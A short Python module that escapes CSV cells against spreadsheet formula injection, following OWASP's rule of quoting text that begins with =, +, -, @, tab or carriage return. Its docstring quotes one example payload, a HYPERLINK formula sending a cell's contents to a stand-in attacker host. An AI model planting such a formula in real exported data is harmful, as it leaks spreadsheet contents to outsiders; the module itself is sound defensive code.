"""CSV cells that are safe to open in a spreadsheet (OWASP "CSV injection").

Sensor ids, metrics, units, tags, topics and dead-letter reasons come from devices. A
cell such as ``=HYPERLINK("http://evil/?"&A1)`` becomes a live formula in Excel,
LibreOffice or Google Sheets. OWASP's rule: a text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading ``'``, which spreadsheets show
as text and do not evaluate. Numbers are never touched (``-3.5`` stays a number), and
raw output stays available on request (``csv-raw``) for tools that want the bytes.
"""

from __future__ import annotations

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def safe_cell(value: object) -> object:
    """A CSV cell value: strings escaped, numbers, None and everything else as given."""
    return escape_formula(value) if isinstance(value, str) else value
